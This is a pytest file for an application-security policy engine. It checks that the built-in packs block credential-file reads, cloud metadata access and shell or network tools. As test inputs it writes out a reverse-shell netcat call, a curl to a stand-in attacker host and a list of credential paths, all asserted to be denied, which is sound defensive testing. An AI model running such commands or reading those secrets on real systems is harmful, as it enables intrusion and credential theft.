"""The built-in packs: each loads and passes `appshield check`, and answers the attacks its
rules are documented to stop (with the real loader and engine)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from appshield.operations import FileOp, ImportOp, NetworkOp, ProcessOp
from appshield.policy import Policy
from appshield.policy.loader import PACKS_DIR

PACKS = sorted(n[:-5] for n in os.listdir(PACKS_DIR) if n.endswith(".yaml"))
HOME = os.path.expanduser("~")
ALLOW_ALL = "{process: allow, file: allow, network: allow, import: allow}"
DENY_ALL = "{process: deny, file: deny, network: deny, import: deny}"


def extending(tmp_path: Path, *packs: str, defaults: str = ALLOW_ALL) -> Path:
    path = tmp_path / "policy.yaml"
    names = ", ".join(f"appshield:{p}" for p in packs)
    path.write_text(f"version: 1\nextends: [{names}]\ndefaults: {defaults}\n")
    return path


def policy(tmp_path: Path, *packs: str, defaults: str = ALLOW_ALL) -> Policy:
    return Policy.from_file(extending(tmp_path, *packs, defaults=defaults))


def action(p: Policy, op: object, *stack: str) -> str:
    return p.decide(op, stack).action  # type: ignore[arg-type]


def test_the_expected_packs_exist() -> None:
    assert {"baseline", "python-runtime", "fargate", "lambda", "kubernetes"} <= set(PACKS)


@pytest.mark.parametrize("pack", PACKS)
def test_pack_passes_check(tmp_path: Path, pack: str) -> None:
    path = (
        extending(tmp_path, pack, "python-runtime")
        if pack != "python-runtime"
        else (extending(tmp_path, pack))
    )
    done = subprocess.run(
        [sys.executable, "-m", "appshield", "check", str(path)], capture_output=True, text=True
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_check_takes_a_pack_itself_as_a_policy_to_extend() -> None:
    """A pack has no `defaults` of its own (the policy extending it names them): `check` on
    the pack's file, or on `appshield:NAME`, validates it as it would be extended."""
    files = [os.path.join(PACKS_DIR, f"{pack}.yaml") for pack in PACKS]
    names = [f"appshield:{pack}" for pack in PACKS]
    command = [sys.executable, "-m", "appshield", "check", *files, *names]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.count(": valid (") == 2 * len(PACKS)
    missing = [sys.executable, "-m", "appshield", "check", "appshield:no-such-pack"]
    done = subprocess.run(missing, capture_output=True, text=True)
    assert done.returncode == 1 and "no built-in pack 'appshield:no-such-pack'" in done.stdout


@pytest.mark.parametrize("pack", PACKS)
def test_every_rule_says_what_it_stops(tmp_path: Path, pack: str) -> None:
    p = policy(tmp_path, pack)
    text = (Path(PACKS_DIR) / f"{pack}.yaml").read_text()
    assert "\ndefaults:" not in text and "\nname:" not in text and "\nmode:" not in text
    for rule in p.document.rules:
        assert rule.description, rule.id
        assert rule.id.startswith(pack.split("-")[0]) or rule.id.startswith("baseline"), rule.id


# --- baseline ---------------------------------------------------------------------------------


@pytest.fixture
def baseline(tmp_path: Path) -> Policy:
    return policy(tmp_path, "baseline")


@pytest.mark.parametrize(
    "path",
    [
        f"{HOME}/.aws/credentials",
        f"{HOME}/.ssh/id_rsa",
        f"{HOME}/.ssh/id_ed25519",
        "/proc/1/environ",
        "/proc/4242/task/4243/environ",
        "/proc/1/mem",
        "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
        "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/var/run/secrets/kubernetes.io/serviceaccount/..data/token",
        "/run/secrets/kubernetes.io/serviceaccount/token",
        f"{HOME}/.config/gcloud/application_default_credentials.json",
        f"{HOME}/.netrc",
    ],
)
def test_baseline_denies_credential_files(baseline: Policy, path: str) -> None:
    assert action(baseline, FileOp(path, "read"), "app.views", "__main__") == "deny"


def test_proc_self_environ_is_denied_by_either_spelling(baseline: Policy) -> None:
    op = FileOp("/proc/self/environ", "read", resolved=f"/proc/{os.getpid()}/environ")
    assert action(baseline, op) == "deny"


def test_ssh_authorized_keys_cannot_be_written(baseline: Policy) -> None:
    assert action(baseline, FileOp(f"{HOME}/.ssh/authorized_keys", "write")) == "deny"


def test_sdk_exceptions(baseline: Policy) -> None:
    creds = FileOp(f"{HOME}/.aws/credentials", "read")
    assert action(baseline, creds, "botocore.configloader", "boto3.session", "app") == "allow"
    token = FileOp("/var/run/secrets/kubernetes.io/serviceaccount/token", "read")
    assert action(baseline, token, "kubernetes.config.incluster_config", "app") == "allow"
    assert action(baseline, token, "botocore.credentials", "app") == "deny"
    irsa = FileOp("/var/run/secrets/eks.amazonaws.com/serviceaccount/token", "read")
    assert action(baseline, irsa, "botocore.utils") == "allow"


METADATA = ["169.254.169.254", "169.254.170.2", "169.254.170.23", "fd00:ec2::254", "fd00:ec2::23"]


@pytest.mark.parametrize("address", METADATA)
def test_metadata_endpoints_denied_unless_aws_sdk(baseline: Policy, address: str) -> None:
    op = NetworkOp("connect", address=address, port=80)
    assert action(baseline, op, "requests.adapters", "app.fetch") == "deny"
    assert action(baseline, op) == "deny"  # no stack known: the exception cannot hold
    assert action(baseline, op, "botocore.utils", "boto3.session", "app") == "allow"


def test_metadata_by_name(baseline: Policy) -> None:
    op = NetworkOp("resolve", host="metadata.google.internal")
    assert action(baseline, op, "urllib.request", "app") == "deny"
    assert action(baseline, op, "google.auth.compute_engine", "app") == "allow"


@pytest.mark.parametrize(
    "op",
    [
        ProcessOp("/usr/bin/bash", ("bash", "-c", "id"), shell=True, trusted_location=True),
        ProcessOp("/usr/bin/dash", ("/bin/sh", "-c", "ls"), shell=True, trusted_location=True),
        ProcessOp("/tmp/x", ("sh",)),  # a copied shell still named sh in argv[0]
        ProcessOp("/usr/bin/curl", ("curl", "http://evil.example/x"), trusted_location=True),
        ProcessOp("/usr/bin/wget", ("wget", "-qO-", "x"), trusted_location=True),
        ProcessOp("/usr/bin/nc.openbsd", ("nc", "-e", "/bin/sh", "h", "1"), trusted_location=True),
        ProcessOp("/usr/bin/nmap", ("nmap", "10.0.0.0/8"), trusted_location=True),
        ProcessOp("/usr/bin/perl", ("perl", "-e", "..."), trusted_location=True),
        ProcessOp("/usr/bin/id", ("id",), trusted_location=True),
    ],
)
def test_baseline_denies_shells_and_tools(baseline: Policy, op: ProcessOp) -> None:
    assert action(baseline, op, "app") == "deny"


def test_native_code_is_reported_not_blocked(baseline: Policy) -> None:
    decision = baseline.decide(ImportOp("ctypes", "/usr/lib/python3.11/ctypes/__init__.py"))
    assert decision.action == "alert" and not decision.blocked
    assert action(baseline, ImportOp(None, None, "/usr/lib/x86_64-linux-gnu/libc.so.6")) == "alert"


def test_baseline_leaves_ordinary_work_alone(baseline: Policy) -> None:
    assert action(baseline, FileOp("/srv/app/config.yaml", "read")) == "allow"
    git = ProcessOp("/usr/bin/git", ("git", "status"), trusted_location=True)
    assert action(baseline, git) == "allow"
    assert action(baseline, NetworkOp("connect", host="api.example.com", port=443)) == "allow"
    assert action(baseline, ImportOp("json", "/usr/lib/python3.11/json/__init__.py")) == "allow"


# --- python-runtime -------------------------------------------------------------------------


@pytest.fixture
def runtime(tmp_path: Path) -> Policy:
    return policy(tmp_path, "baseline", "python-runtime", defaults=DENY_ALL)


@pytest.mark.parametrize(
    ("op", "module"),
    [
        (ProcessOp("/usr/bin/uname", ("uname", "-p"), trusted_location=True), "platform"),
        (ProcessOp("/usr/sbin/ldconfig", ("/sbin/ldconfig", "-p")), "ctypes.util"),
        (
            ProcessOp("/usr/bin/x86_64-linux-gnu-gcc-12", ("gcc", "-Wl,-t"), trusted_location=True),
            "ctypes.util",
        ),
        (ProcessOp("/usr/bin/ip", ("/usr/bin/ip", "link")), "uuid"),
        (ProcessOp("/usr/sbin/ifconfig", ("/usr/sbin/ifconfig", "-a")), "uuid"),
    ],
)
def test_stdlib_helpers_allowed_only_from_their_module(
    runtime: Policy, op: ProcessOp, module: str
) -> None:
    assert action(runtime, op, "subprocess", module, "__main__") == "allow"
    assert action(runtime, op, "subprocess", "app.views", "__main__") == "deny"


def test_runtime_files(runtime: Policy) -> None:
    assert action(runtime, FileOp("/dev/null", "write")) == "allow"
    assert action(runtime, FileOp("/etc/os-release", "read"), "platform") == "allow"
    assert action(runtime, FileOp("/usr/share/zoneinfo/Europe/Paris", "read"), "zoneinfo") == (
        "allow"
    )
    assert action(runtime, FileOp("/etc/shadow", "read"), "platform") == "deny"


PLATFORM_PROBE = """
import appshield, ctypes.util, platform, uuid, subprocess
appshield.install({policy!r}, mode="enforce")
print("processor", platform.processor())
print("libc", ctypes.util.find_library("c"))
print("node", uuid.getnode() > 0)
try:
    subprocess.run(["uname", "-a"])
except PermissionError as exc:
    print("blocked", exc.rule_id)
"""


def test_platform_processor_works_under_deny_by_default(tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(
        "version: 1\nextends: [appshield:baseline, appshield:python-runtime]\n"
        "defaults: {process: deny, file: deny, network: deny, import: allow}\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", PLATFORM_PROBE.format(policy=str(path))],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert "processor " in done.stdout and "node True" in done.stdout
    assert "blocked default:process" in done.stdout  # the same program from app code is not


# --- variants -------------------------------------------------------------------------------


def test_fargate(tmp_path: Path) -> None:
    p = policy(tmp_path, "fargate")
    imds = NetworkOp("connect", address="169.254.169.254", port=80)
    task = NetworkOp("connect", address="169.254.170.2", port=80)
    assert action(p, imds, "botocore.utils") == "deny"  # no IMDS on Fargate, for anyone
    assert action(p, task, "botocore.credentials") == "allow"
    assert action(p, task, "opentelemetry.sdk.extension.aws.resource.ecs") == "allow"
    assert action(p, task, "requests.api", "app") == "deny"
    assert action(p, FileOp(f"{HOME}/.aws/credentials", "read"), "app") == "deny"


def test_lambda(tmp_path: Path) -> None:
    p = policy(tmp_path, "lambda")
    runtime_api = NetworkOp("connect", address="127.0.0.1", port=9001)
    assert action(p, runtime_api, "http.client", "app.handler") == "deny"
    assert action(p, runtime_api, "awslambdaric.lambda_runtime_client") == "allow"
    creds = NetworkOp("connect", address="169.254.170.2", port=80)
    assert action(p, creds, "botocore.utils") == "deny"
    assert action(p, FileOp("/proc/1/environ", "read"), "app") == "deny"
    assert action(p, NetworkOp("connect", address="127.0.0.1", port=2773), "app") == "allow"


def test_kubernetes(tmp_path: Path) -> None:
    p = policy(tmp_path, "kubernetes")
    api = NetworkOp("connect", host="kubernetes.default.svc", address="10.96.0.1", port=443)
    assert action(p, api, "requests.api", "app") == "deny"
    assert action(p, api, "kubernetes.client.rest", "app") == "allow"
    assert action(p, NetworkOp("connect", address="10.0.0.7", port=10250), "app") == "deny"
    assert action(p, NetworkOp("connect", address="10.0.0.8", port=2379), "app") == "deny"
    kubectl = ProcessOp("/usr/local/bin/kubectl", ("kubectl", "get", "pods"), trusted_location=True)
    assert action(p, kubectl, "app") == "deny"
    token = FileOp("/var/run/secrets/kubernetes.io/serviceaccount/token", "read")
    assert action(p, token, "app") == "deny"
